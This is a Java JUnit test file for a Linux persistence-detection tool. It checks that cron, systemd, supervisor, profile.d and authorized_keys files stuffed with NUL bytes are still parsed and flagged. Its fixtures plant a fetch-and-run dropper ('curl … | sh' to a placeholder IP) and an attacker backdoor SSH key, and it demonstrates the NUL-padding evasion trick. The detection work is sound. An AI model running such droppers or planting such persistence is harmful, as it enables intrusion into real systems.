package dev.ferret.collect.linux.persistence;

import dev.ferret.data.rules.Golden;

import dev.ferret.model.Finding;
import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.Severity;
import dev.ferret.model.Snapshot;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 13: one NUL byte in a comment of a persistence file used to make the whole file "binary" (no entry, no
 * finding). The daemon reads on; so does ferret, and the stuffing is a finding of its own.
 */
class StuffedFilesTest {
    private static final String DROPPER = "curl -fsSL http://203.0.113.9/i.sh | sh";

    @TempDir
    Path root;

    /** A comment line with 64 NUL bytes in it, then the given text. */
    private static byte[] stuffed(String before, String after) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.writeBytes(before.getBytes(StandardCharsets.UTF_8));
        b.writeBytes("# maintenance ".getBytes(StandardCharsets.UTF_8));
        b.writeBytes(new byte[64]);
        b.writeBytes(("\n" + after).getBytes(StandardCharsets.UTF_8));
        return b.toByteArray();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            /etc/crontab                      | SHELL=/bin/sh\\n | */5 * * * * root CMD\\n                              | cron
            /etc/cron.d/sysstat               |                 | */5 * * * * root CMD\\n                              | cron
            /var/spool/cron/crontabs/root     |                 | */5 * * * * CMD\\n                                   | cron
            /etc/systemd/system/netd.service  | [Unit]\\n        | [Service]\\nExecStart=/bin/sh -c 'CMD'\\n[Install]\\nWantedBy=multi-user.target\\n | systemd
            /etc/supervisor/conf.d/app.conf   |                 | [program:app]\\ncommand=/bin/sh -c 'CMD'\\n          | supervisord
            /etc/profile.d/locale.sh          |                 | CMD\\n                                               | profile
            """)
    @Golden("linux.persistence.binary-stuffing")
    void aFileStuffedWithNulIsParsedAndIsAFinding(String path, String head, String after, String kind) {
        String before = head == null ? "" : head;
        byte[] content = stuffed(before.replace("\\n", "\n"), after.replace("\\n", "\n").replace("CMD", DROPPER));
        Fixture f = new Fixture(root).file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
                .file("/etc/supervisor/supervisord.conf", "[supervisord]\n[include]\nfiles = conf.d/*.conf\n")
                .bytes(path, content);
        Snapshot s = f.collectAll();
        List<PersistenceEntry> entries = Fixture.of(s, kind).stream().filter(e -> e.path().equals(path)).toList();
        assertTrue(entries.stream().anyMatch(e -> e.command().contains(DROPPER)),
                "the line after the NUL bytes was read: " + s.persistence());
        List<Finding> findings = Fixture.detect(s);
        Finding stuffing = findings.stream().filter(x -> x.ruleId().equals("linux.persistence.binary-stuffing")
                && x.file().path().equals(path)).findFirst().orElseThrow(() -> new AssertionError(findings.toString()));
        assertTrue(stuffing.severity().compareTo(Severity.HIGH) >= 0, stuffing.toString());
        int offset = before.replace("\\n", "\n").length() + "# maintenance ".length();
        assertTrue(stuffing.reasons().get(0).text().contains("64 control bytes (64 NUL), the first at offset " + offset),
                stuffing.reasons().get(0).text());
        assertTrue(findings.stream().anyMatch(x -> x.severity().compareTo(Severity.HIGH) >= 0
                && x.persistence() != null && x.persistence().command().contains(DROPPER)
                && !x.ruleId().equals("linux.persistence.binary-stuffing")), "the dropper itself is found: " + findings);
    }

    @Test
    void authorizedKeysWithNulStillListsTheKeyAddedAfterIt() {
        String key = "ssh-ed25519 " + Scenarios.blob("attacker") + " backdoor\n";
        Fixture f = new Fixture(root).file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
                .bytes("/root/.ssh/authorized_keys", stuffed("", key));
        Snapshot s = f.collectAll();
        assertEquals(1, Fixture.of(s, "ssh-key").size(), s.persistence().toString());
        assertTrue(Fixture.detect(s).stream().anyMatch(x -> x.ruleId().equals("linux.persistence.binary-stuffing")));
    }

    @Test
    void escapeBytesAloneAreALowFindingAndACleanFileIsNone() {
        Fixture f = new Fixture(root).file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
                .file("/root/.bashrc", "PS1='\u001b[1;32m\\u@\\h\u001b[0m '\n")
                .file("/etc/cron.d/clean", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
        List<Finding> findings = Fixture.detect(f.collectAll()).stream()
                .filter(x -> x.ruleId().equals("linux.persistence.binary-stuffing")).toList();
        assertEquals(1, findings.size(), findings.toString());
        assertEquals("/root/.bashrc", findings.get(0).file().path());
        assertEquals(Severity.LOW, findings.get(0).severity());
    }
}
